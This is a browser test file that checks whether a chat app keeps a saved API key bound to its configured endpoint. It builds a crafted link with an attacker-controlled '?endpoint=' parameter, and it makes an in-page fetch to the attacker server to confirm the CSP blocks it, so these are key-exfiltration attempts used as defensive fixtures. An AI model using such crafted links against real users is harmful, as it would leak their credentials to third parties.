// Keys bound to their endpoint, in Chromium (issue 26 finding 2): a link naming another endpoint sends nothing with the
// key; the page's connect-src lists only configured origins; "Send your key to HOST?" decides; test code.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startScriptedModel, type ScriptedModel } from './model-servers.mjs';
import { configure, haveChromium, idle, openApp, ready, send, startEnv, type AppEnv } from './harness.js';

let env: AppEnv;
const models: ScriptedModel[] = [];
const KEY = 'sk-bound-7d41c0e9-not-a-real-key';

beforeAll(async () => {
  env = await startEnv();
}, 60_000);
afterAll(async () => {
  for (const m of models) await m.close();
  await env?.close();
});

async function model(text: string): Promise<ScriptedModel> {
  const m = await startScriptedModel({ kind: 'openai', script: () => ({ text }) });
  models.push(m);
  return m;
}

const connectSrc = (csp: string | undefined) =>
  (csp ?? '')
    .split(';')
    .map((d) => d.trim())
    .find((d) => d.startsWith('connect-src'))
    ?.split(/\s+/)
    .slice(1) ?? [];

describe.skipIf(!haveChromium)('keys bound to their endpoint', () => {
  it('a link with ?endpoint=ATTACKER sends nothing with the key to it; the CSP does not list it until the person answers', async () => {
    const a = await model('from A');
    const attacker = await model('from the attacker');
    const { page, context, requests } = await openApp(env);
    await configure(page, { api: 'openai', endpoint: a.url, model: 'm', key: KEY });
    await send(page, 'hello A');
    await page.getByText('from A').waitFor({ timeout: 60_000 });
    await idle(page);
    expect(a.requests.map((r) => r.headers.authorization)).toEqual([`Bearer ${KEY}`]);

    // The link from the report: same browser profile, the saved key, an endpoint named by the URL
    const link = `${env.server.url}?api=openai&endpoint=${encodeURIComponent(`${attacker.url}`)}&model=x`;
    const res = await page.goto(link);
    await ready(page);
    const csp = (await res?.allHeaders())?.['content-security-policy'];
    expect(connectSrc(csp)).toContain(a.origin);
    expect(connectSrc(csp)).not.toContain(attacker.origin);
    expect(connectSrc(csp).filter((s) => /^(https?:|\*)$/.test(s))).toEqual([]); // never "any address"
    // the page itself cannot reach the attacker's origin (the CSP refuses it before any connection)
    const direct = await page.evaluate(async (u) => {
      try {
        await fetch(u, { method: 'POST', body: '{}' });
        return 'sent';
      } catch (e) {
        return String(e);
      }
    }, `${attacker.url}/chat/completions`);
    expect(direct).not.toBe('sent');
    await send(page, 'hello?');
    const q = page.getByRole('group', { name: 'Send your key?' });
    await q.waitFor({ timeout: 30_000 });
    await expect(q.getByRole('heading').textContent()).resolves.toBe(
      `Send your key to ${new URL(attacker.origin).host}?`,
    );
    await expect(q.textContent()).resolves.toContain(`saved for ${a.origin}`);
    expect(attacker.requests).toHaveLength(0);
    // "Send without key": the page widens to that origin (a reload) and sends the message without the key
    await q.getByRole('button', { name: 'Send without key' }).click();
    await page.getByText('from the attacker').waitFor({ timeout: 60_000 });
    await idle(page);
    expect(attacker.requests).toHaveLength(1);
    expect(attacker.requests[0]!.headers.authorization).toBeUndefined();
    expect(JSON.stringify(attacker.requests[0]!.body)).not.toContain(KEY);
    expect(a.requests).toHaveLength(1);
    // nothing the browser sent carried the key except A's request
    const withKey = [];
    for (const r of requests) {
      const text = `${r.url()} ${JSON.stringify(await r.allHeaders())} ${r.postData() ?? ''}`;
      if (text.includes(KEY)) withKey.push(r.url());
    }
    expect(withKey).toEqual([`${a.url}/chat/completions`]);
    await context.close();
  }, 180_000);

  it('an endpoint changed in Settings asks too; "Cancel" sends nothing; "Send key to HOST" binds the key to that origin as well', async () => {
    const a = await model('from A');
    const b = await model('from B');
    const { page, context } = await openApp(env);
    await configure(page, { api: 'openai', endpoint: a.url, model: 'm', key: KEY });
    await page.getByRole('button', { name: 'Settings' }).click();
    await expect(page.getByRole('region', { name: 'Settings' }).textContent()).resolves.toContain(
      `sent only to ${a.origin}`,
    );
    await page.getByRole('textbox', { name: 'Endpoint URL' }).fill(b.url);
    await page.getByRole('button', { name: 'Settings' }).click();
    await send(page, 'to B');
    const q = page.getByRole('group', { name: 'Send your key?' });
    await q.getByRole('button', { name: 'Cancel' }).click();
    await expect(page.getByRole('textbox', { name: 'Message' }).inputValue()).resolves.toBe('to B');
    expect(b.requests).toHaveLength(0);
    await page.getByRole('button', { name: 'Send' }).click();
    await q.getByRole('button', { name: `Send key to ${new URL(b.origin).host}` }).click();
    await page.getByText('from B').waitFor({ timeout: 60_000 });
    await idle(page);
    expect(b.requests.map((r) => r.headers.authorization)).toEqual([`Bearer ${KEY}`]);
    // confirmed for B now: no second question
    await send(page, 'again B');
    await page.getByText('from B').nth(1).waitFor({ timeout: 60_000 });
    await idle(page);
    expect(b.requests).toHaveLength(2);
    await expect(page.getByRole('group', { name: 'Send your key?' }).count()).resolves.toBe(0);
    expect(a.requests).toHaveLength(0);
    await context.close();
  }, 180_000);
});
